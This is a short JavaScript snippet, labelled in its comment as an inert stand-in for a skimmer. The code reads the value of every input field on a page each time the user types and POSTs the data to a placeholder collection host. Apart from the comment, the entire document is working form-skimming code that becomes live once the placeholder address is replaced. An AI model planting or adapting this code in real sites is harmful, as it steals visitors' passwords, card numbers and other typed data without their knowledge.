// A stand-in for a skimmer, inert: its address is nobody's, and nothing leaves the stage.
document.addEventListener('input', () => {
  const typed = {};
  for (const field of document.querySelectorAll('input'))
    if (field.id) typed[field.id] = field.value;
  fetch('https://collect.example/c', { method: 'POST', body: JSON.stringify(typed) });
});
